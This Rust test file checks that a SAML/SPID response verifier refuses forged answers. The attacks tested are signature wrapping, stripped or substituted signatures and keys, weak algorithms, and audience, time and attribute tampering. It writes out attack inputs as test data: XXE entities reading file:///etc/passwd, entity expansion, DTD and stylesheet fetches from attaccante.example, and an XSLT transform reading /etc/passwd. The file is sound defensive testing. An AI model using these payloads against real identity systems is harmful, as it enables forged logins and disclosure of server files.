//! Every known way to abuse a SAML answer, each refused, and the honest answer accepted.
//!
//! By hand, xmlsec1 1.2.37 says "OK" to the honest answer (`--id-attr:ID Assertion`) and refuses the tampered one.

use base::{PersonName, Sex, Timestamp};
use base64::{Engine as _, engine::general_purpose::STANDARD};
use jiff::SignedDuration;

use super::{Claims, Expected, Message, Refusal, signature};
use crate::{
    DemoPerson,
    demonstration::answer::Answer,
    federation::Kind,
    saml::{AuthnRequest, Certificate, Signer},
};

const SP: &str = "https://sportello.example";
const ACS: &str = "https://sportello.example/accesso/saml/acs";
const IDP: &str = "https://idp.example";
const NOW: &str = "2026-03-02T09:00:30Z";

/// A provider and a request that waits for its answer.
pub(in crate::saml) struct Scene {
    _folder: tempfile::TempDir,
    idp: Signer,
    certificates: Vec<Certificate>,
    request: AuthnRequest,
}

impl Scene {
    pub(in crate::saml) fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let idp = Signer::open_or_create(folder.path(), "idp", "Prova").unwrap();
        let certificates = vec![idp.certificate().clone()];
        let request = AuthnRequest {
            id: "_richiesta".to_owned(),
            issued_at: "2026-03-02T09:00:00Z".parse().unwrap(),
            destination: IDP.to_owned(),
            issuer: SP.to_owned(),
            level: 2,
            attribute_set: 0,
        };
        Self { _folder: folder, idp, certificates, request }
    }

    fn answer(&self) -> Answer<'_> {
        Answer { request: &self.request, issuer: IDP, consumer_url: ACS, seed: [7; 16], now: now() }
    }

    pub(in crate::saml) fn genuine(&self) -> String {
        self.answer().identified(&anna(), 2, &self.idp).unwrap()
    }

    /// An answer that the provider signed with something else in it.
    fn signed_with(&self, from: &str, to: &str) -> String {
        let unsigned = self.answer().unsigned(&anna(), 2, &self.idp);
        assert!(unsigned.contains(from), "{from}");
        self.idp.sign_xml(&unsigned.replace(from, to)).unwrap()
    }

    pub(in crate::saml) fn verify(&self, xml: &str) -> Result<Claims, Refusal> {
        self.verify_at(xml, now())
    }

    fn verify_at(&self, xml: &str, now: Timestamp) -> Result<Claims, Refusal> {
        Message::read(&STANDARD.encode(xml))?.verify(&Expected {
            kind: Kind::Spid,
            provider: IDP,
            certificates: &self.certificates,
            audience: SP,
            consumer_url: ACS,
            request_id: "_richiesta",
            requested_at: self.request.issued_at,
            level: 2,
            now,
            skew: SignedDuration::from_secs(60),
        })
    }

    fn refusal(&self, xml: &str) -> Refusal {
        self.verify(xml).expect_err("an attack must be refused")
    }
}

fn now() -> Timestamp {
    NOW.parse().unwrap()
}

fn anna() -> DemoPerson {
    DemoPerson {
        handle: "anna".to_owned(),
        name: PersonName { surname: "D’Esempio & Figli".to_owned(), given: "Anna".to_owned() },
        fiscal_code: "BNCNNA90M49Z404C".parse().unwrap(),
        born: "1990-08-09".parse().unwrap(),
        sex: Sex::F,
        birthplace: "Z404".to_owned(),
        story: None,
    }
}

/// The assertion of an answer, and the answer around it.
fn split(xml: &str) -> (String, String, String) {
    let start = xml.find("<saml:Assertion").unwrap();
    let end = xml.find("</saml:Assertion>").unwrap() + "</saml:Assertion>".len();
    (xml[..start].to_owned(), xml[start..end].to_owned(), xml[end..].to_owned())
}

fn between<'a>(text: &'a str, from: &str, to: &str) -> &'a str {
    let start = text.find(from).unwrap();
    &text[start..start + text[start..].find(to).unwrap() + to.len()]
}

/// What an attacker would like to be believed: unsigned, with another ID and another person.
fn evil(assertion: &str) -> String {
    let signature = between(assertion, "<ds:Signature ", "</ds:Signature>").to_owned();
    assertion.replace(&signature, "").replace("ID=\"_a", "ID=\"_e").replace("BNCNNA90M49Z404C", "VRDGFR55L04D612V")
}

#[test]
fn the_honest_answer_is_believed() {
    let scene = Scene::new();
    let claims = scene.verify(&scene.genuine()).unwrap();
    assert_eq!(claims.fiscal_code.as_str(), "BNCNNA90M49Z404C");
    assert_eq!(claims.name.to_string(), "Anna D’Esempio & Figli");
    assert_eq!((claims.level, claims.born), (2, Some("1990-08-09".parse().unwrap())));
    let with_declaration = format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{}", scene.genuine());
    assert!(scene.verify(&with_declaration).is_ok());
}

#[test]
fn a_signature_around_the_whole_answer_is_allowed_and_not_enough() {
    let scene = Scene::new();
    let (before, assertion, after) = split(&scene.genuine());
    let id = "_r07070707070707070707070707070707";
    let place = before.find("<samlp:Status>").unwrap();
    let (issuer, status) = before.split_at(place);
    let both = format!("{issuer}{}{status}{assertion}{after}", scene.idp.template(id));
    assert!(scene.verify(&scene.idp.sign_xml(&both).unwrap()).is_ok());

    let bare = assertion.replace(between(&assertion, "<ds:Signature ", "</ds:Signature>"), "");
    let only_outer = format!("{issuer}{}{status}{bare}{after}", scene.idp.template(id));
    assert_eq!(scene.refusal(&scene.idp.sign_xml(&only_outer).unwrap()), Refusal::Unsigned);
}

#[test]
fn unsigned_and_tampered_answers_are_refused() {
    let scene = Scene::new();
    let genuine = scene.genuine();
    let signature = between(&genuine, "<ds:Signature ", "</ds:Signature>").to_owned();
    assert_eq!(scene.refusal(&genuine.replace(&signature, "")), Refusal::Unsigned);
    assert_eq!(scene.refusal(&genuine.replace("BNCNNA90M49Z404C", "VRDGFR55L04D612V")), Refusal::Signature);
    assert_eq!(scene.refusal(&genuine.replace("SpidL2", "SpidL3")), Refusal::Signature);
    let value = between(&genuine, "<ds:SignatureValue>", "</ds:SignatureValue>").to_owned();
    let empty = "<ds:SignatureValue></ds:SignatureValue>";
    assert_eq!(scene.refusal(&genuine.replace(&value, empty)), Refusal::Signature);
}

#[test]
fn the_key_in_the_message_opens_nothing() {
    let (scene, stranger) = (Scene::new(), Scene::new());
    let foreign = scene.answer().identified(&anna(), 2, &stranger.idp).unwrap();
    assert!(foreign.contains(&stranger.idp.certificate().base64()), "the message brings its own key");
    assert_eq!(scene.refusal(&foreign), Refusal::Signature);
    let dressed_up = foreign.replace(&stranger.idp.certificate().base64(), &scene.idp.certificate().base64());
    assert_eq!(scene.refusal(&dressed_up), Refusal::Signature);
}

#[test]
fn wrapped_assertions_are_refused_whatever_the_place() {
    let scene = Scene::new();
    let (before, genuine, after) = split(&scene.genuine());
    let evil = evil(&genuine);
    let signature = between(&genuine, "<ds:Signature ", "</ds:Signature>");
    let object = |content: &str| {
        signature.replace("</ds:Signature>", &format!("<ds:Object>{content}</ds:Object></ds:Signature>"))
    };
    let issuer_end = "</saml:Issuer>";
    let in_evil = |content: &str| evil.replacen(issuer_end, &format!("{issuer_end}{content}"), 1);
    let bare = genuine.replace(signature, "");
    let whole = format!("{before}{genuine}{after}");
    let variants = [
        ("two assertions, evil first", format!("{before}{evil}{genuine}{after}")),
        ("two assertions, evil last", format!("{before}{genuine}{evil}{after}")),
        ("genuine in Extensions", format!("{before}<samlp:Extensions>{genuine}</samlp:Extensions>{evil}{after}")),
        ("genuine inside evil", format!("{before}{}{after}", in_evil(&genuine))),
        ("genuine in an Object of evil's signature", format!("{before}{}{after}", in_evil(&object(&bare)))),
        (
            "genuine in Advice of evil",
            format!("{before}{}{after}", in_evil(&format!("<saml:Advice>{genuine}</saml:Advice>"))),
        ),
        (
            "genuine in StatusDetail",
            before.replace(
                "</samlp:Status>",
                &format!("<samlp:StatusDetail>{genuine}</samlp:StatusDetail></samlp:Status>"),
            ) + &evil
                + &after,
        ),
        ("whole answer in an Object", format!("{before}{}{evil}{after}", object(&whole))),
        ("answer in an answer", format!("{before}{whole}{evil}{after}")),
        ("the same ID twice", format!("{before}{}{genuine}{after}", evil.replace("ID=\"_e", "ID=\"_a"))),
    ];
    for (name, xml) in variants {
        let refusal = scene.refusal(&xml);
        assert!(matches!(refusal, Refusal::Shape(_)), "{name}: {refusal:?}");
    }
}

#[test]
fn a_moved_signature_covers_nothing_else() {
    let scene = Scene::new();
    let (before, genuine, after) = split(&scene.genuine());
    let signature = between(&genuine, "<ds:Signature ", "</ds:Signature>");
    let issuer_end = "</saml:Issuer>";
    // Evil carries the genuine signature, whose reference leads elsewhere or nowhere.
    let borrowed = evil(&genuine).replacen(issuer_end, &format!("{issuer_end}{signature}"), 1);
    assert_eq!(scene.refusal(&format!("{before}{borrowed}{after}")), Refusal::Algorithm("Reference".to_owned()));
    let renamed = borrowed.replace("ID=\"_e", "ID=\"_a");
    assert_eq!(scene.refusal(&format!("{before}{renamed}{after}")), Refusal::Signature);
}

/// Even past the whitelist, what is read is what was signed.
#[test]
fn only_the_signed_element_is_given_on() {
    let scene = Scene::new();
    let (before, genuine, after) = split(&scene.genuine());
    let xml = format!("{before}<samlp:Extensions>{genuine}</samlp:Extensions>{}{after}", evil(&genuine));
    let id = "_a07070707070707070707070707070707";
    let text = signature::signed_text(&xml, "_r07070707070707070707070707070707", id, &scene.certificates).unwrap();
    assert!(text.contains("BNCNNA90M49Z404C") && !text.contains("VRDGFR55L04D612V"), "{text}");
}

#[test]
fn weak_or_surplus_algorithms_are_refused() {
    let scene = Scene::new();
    let genuine = scene.genuine();
    for (from, to, what) in [
        (
            "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
            "http://www.w3.org/2000/09/xmldsig#rsa-sha1",
            "SignatureMethod",
        ),
        (
            "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
            "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
            "SignatureMethod",
        ),
        ("http://www.w3.org/2001/04/xmlenc#sha256", "http://www.w3.org/2000/09/xmldsig#sha1", "DigestMethod"),
        (
            "http://www.w3.org/2000/09/xmldsig#enveloped-signature",
            "http://www.w3.org/TR/1999/REC-xslt-19991116",
            "Transforms",
        ),
        (
            "http://www.w3.org/2000/09/xmldsig#enveloped-signature",
            "http://www.w3.org/TR/1999/REC-xpath-19991116",
            "Transforms",
        ),
        (
            "http://www.w3.org/2001/10/xml-exc-c14n#",
            "http://www.w3.org/2001/10/xml-exc-c14n#WithComments",
            "CanonicalizationMethod",
        ),
        ("URI=\"#_a", "URI=\"http://attaccante.example/#_a", "Reference"),
    ] {
        assert!(genuine.contains(from), "{from}");
        assert_eq!(scene.refusal(&genuine.replace(from, to)), Refusal::Algorithm(what.to_owned()));
    }
}

#[test]
fn markup_that_splits_readers_is_refused_before_parsing() {
    let scene = Scene::new();
    let genuine = scene.genuine();
    let in_code = |piece: &str| genuine.replace("TINIT-BNC", &format!("TINIT-{piece}BNC"));
    for xml in [
        in_code("<!-- x -->"),
        in_code("<?x y?>"),
        in_code("<![CDATA[]]>"),
        format!("<!DOCTYPE x [<!ENTITY a \"b\">]>{genuine}"),
        format!("<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]>{genuine}"),
        format!("<!DOCTYPE x [<!ENTITY % a SYSTEM \"file:///etc/passwd\">%a;]>{genuine}"),
        format!("<?xml version=\"1.0\"?><!DOCTYPE x SYSTEM \"http://attaccante.example/x.dtd\">{genuine}"),
        format!("<?xml-stylesheet href=\"http://attaccante.example/x.xsl\"?>{genuine}<?y?>"),
    ] {
        assert_eq!(scene.refusal(&xml), Refusal::Markup);
    }
    let entity = genuine.replace("TINIT-BNC", "TINIT-&a;BNC");
    assert_eq!(scene.refusal(&entity), Refusal::NotXml);
    // Signed by the provider itself, a comment is still not taken.
    assert_eq!(scene.refusal(&scene.signed_with("TINIT-BNC", "TINIT-<!---->BNC")), Refusal::Markup);
}

#[test]
fn size_and_encoding_are_bounded() {
    let scene = Scene::new();
    assert_eq!(scene.refusal(&format!("{}{}", scene.genuine(), " ".repeat(200_000))), Refusal::TooLarge);
    let many = scene.genuine().replace("<samlp:Status>", &format!("{}<samlp:Status>", "<a/>".repeat(3_000)));
    assert!(matches!(scene.refusal(&many), Refusal::NotXml | Refusal::Shape(_)));
    assert_eq!(Message::read("%%%").unwrap_err(), Refusal::NotXml);
    assert_eq!(Message::read(&STANDARD.encode([0xff, 0xfe, 0x3c, 0x00])).unwrap_err(), Refusal::NotXml);
}

#[test]
fn what_the_provider_signed_for_somebody_else_is_refused() {
    let scene = Scene::new();
    for (from, to, refusal) in [
        ("<saml:Audience>https://sportello.example", "<saml:Audience>https://altro.example", Refusal::Audience),
        ("Destination=\"https://sportello", "Destination=\"https://altro", Refusal::Destination),
        ("Recipient=\"https://sportello", "Recipient=\"https://altro", Refusal::Subject("Recipient")),
        ("InResponseTo=\"_richiesta\"><saml:Issuer", "InResponseTo=\"_altra\"><saml:Issuer", Refusal::InResponseTo),
        ("InResponseTo=\"_richiesta\" NotOnOrAfter", "InResponseTo=\"_altra\" NotOnOrAfter", Refusal::InResponseTo),
        ("cm:bearer", "cm:sender-vouches", Refusal::Subject("Method")),
        ("nameid-format:transient", "nameid-format:persistent", Refusal::Subject("NameID")),
        ("SpidL2", "SpidL1", Refusal::Level),
        ("SpidL2", "SpidL9", Refusal::Level),
        (
            "Version=\"2.0\" IssueInstant=\"2026-03-02T09:00:30Z\"><saml:Issuer",
            "Version=\"1.1\" IssueInstant=\"2026-03-02T09:00:30Z\"><saml:Issuer",
            Refusal::Version,
        ),
    ] {
        assert_eq!(scene.refusal(&scene.signed_with(from, to)), refusal, "{to}");
    }
    let issuers = scene.answer().unsigned(&anna(), 2, &scene.idp);
    let inner = issuers.rfind(">https://idp.example</saml:Issuer>").unwrap();
    let (head, tail) = issuers.split_at(inner);
    let other = format!("{head}{}", tail.replacen("idp.example", "altro.example", 1));
    assert_eq!(scene.refusal(&scene.idp.sign_xml(&other).unwrap()), Refusal::Issuer);
}

#[test]
fn attributes_must_be_whole_and_single() {
    let scene = Scene::new();
    for (from, to, refusal) in [
        ("TINIT-BNC", "BNC", Refusal::Attribute("fiscalNumber")),
        ("TINIT-BNC", "TINIT- BNC", Refusal::Attribute("fiscalNumber")),
        ("TINIT-BNCNNA90M49Z404C", "TINIT-bncnna90m49z404c", Refusal::Attribute("fiscalNumber")),
        ("TINIT-BNCNNA90M49Z404C", "TINIT-BNCNNA90M49Z404D", Refusal::Attribute("fiscalNumber")),
        ("Name=\"gender\"", "Name=\"fiscalNumber\"", Refusal::Attribute("twice")),
        ("Name=\"spidCode\"", "Name=\"altro\"", Refusal::Attribute("spidCode")),
        ("1990-08-09", "1990-02-31", Refusal::Attribute("dateOfBirth")),
    ] {
        assert_eq!(scene.refusal(&scene.signed_with(from, to)), refusal, "{to}");
    }
    assert_eq!(scene.refusal(&scene.signed_with("Name=\"fiscalNumber\"", "Name=\"altro\"")), Refusal::NoFiscalCode);
    let nested = scene.signed_with("TINIT-BNC", "TINIT-<saml:b/>BNC");
    assert!(matches!(scene.refusal(&nested), Refusal::Shape(_)));
}

#[test]
fn times_hold_with_equality_and_a_small_skew() {
    let scene = Scene::new();
    let genuine = scene.genuine();
    let at = |text: &str| scene.verify_at(&genuine, text.parse().unwrap());
    assert!(at("2026-03-02T09:00:30Z").is_ok(), "issued and begun in this very second");
    assert!(at("2026-03-02T08:59:30Z").is_ok(), "our clock is one minute slow");
    assert_eq!(at("2026-03-02T08:59:29Z"), Err(Refusal::Time("IssueInstant")), "from the future");
    assert!(at("2026-03-02T09:06:29Z").is_ok(), "in the last second, with the skew");
    assert_eq!(at("2026-03-02T09:06:30Z"), Err(Refusal::Time("SubjectConfirmationData NotOnOrAfter")));

    let old = scene.signed_with("IssueInstant=\"2026-03-02T09:00:30Z\"", "IssueInstant=\"2026-03-02T08:58:00Z\"");
    assert_eq!(scene.refusal(&old), Refusal::Time("IssueInstant"), "older than the request");
    let early = scene.signed_with("NotBefore=\"2026-03-02T09:00:30Z\"", "NotBefore=\"2026-03-02T10:00:00Z\"");
    assert_eq!(scene.refusal(&early), Refusal::Time("NotBefore"));
    let offset = scene.signed_with("NotBefore=\"2026-03-02T09:00:30Z\"", "NotBefore=\"2026-03-02T10:00:30+01:00\"");
    assert_eq!(scene.refusal(&offset), Refusal::Time("NotBefore"), "SAML times are UTC");
}

#[test]
fn a_refusal_of_the_provider_is_told_by_its_number() {
    let scene = Scene::new();
    assert_eq!(scene.refusal(&scene.answer().cancelled()), Refusal::Status(Some(25)));
    let success = "<samlp:StatusCode Value=\"urn:oasis:names:tc:SAML:2.0:status:Success\"/>";
    let denied =
        scene.signed_with(success, "<samlp:StatusCode Value=\"urn:oasis:names:tc:SAML:2.0:status:Requester\"/>");
    assert_eq!(scene.refusal(&denied), Refusal::Status(None), "an assertion beside a failed status is not read");
}

/// A stylesheet in a transform runs whatever it likes; here it is not even parsed as one.
#[test]
fn a_stylesheet_in_the_signature_is_refused() {
    let scene = Scene::new();
    let stylesheet = "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template \
                      match=\"/\"><xsl:value-of select=\"document('file:///etc/passwd')\"/></xsl:template></xsl:stylesheet>";
    let empty = "<ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#enveloped-signature\"/>";
    let full = "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\">";
    let genuine = scene.genuine();
    assert!(genuine.contains(empty));
    let xml = genuine.replace(empty, &format!("{full}{stylesheet}</ds:Transform>"));
    assert!(matches!(scene.refusal(&xml), Refusal::Shape(_)));
}

/// SPID's table of anomalies counts from 1 to 30.
#[test]
fn an_anomaly_is_read_by_its_number_only_where_it_stands() {
    let scene = Scene::new();
    let cancelled = scene.answer().cancelled();
    for (message, number) in [
        ("ErrorCode nr19", Some(19)),
        ("ErrorCode nr30 altro", Some(30)),
        ("ErrorCode nr", None),
        ("nr25", None),
        ("ErrorCode nr999", None),
    ] {
        assert_eq!(scene.refusal(&cancelled.replace("ErrorCode nr25", message)), Refusal::Status(number), "{message}");
    }
}
